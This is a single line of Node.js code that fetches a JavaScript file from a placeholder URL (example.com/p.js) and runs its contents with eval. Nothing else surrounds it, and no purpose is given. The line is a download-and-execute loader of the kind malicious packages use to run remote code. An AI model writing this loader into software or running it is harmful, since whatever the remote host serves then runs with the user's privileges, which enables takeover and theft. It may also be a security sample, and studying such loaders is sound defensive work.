require('https').get('https://example.com/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))});
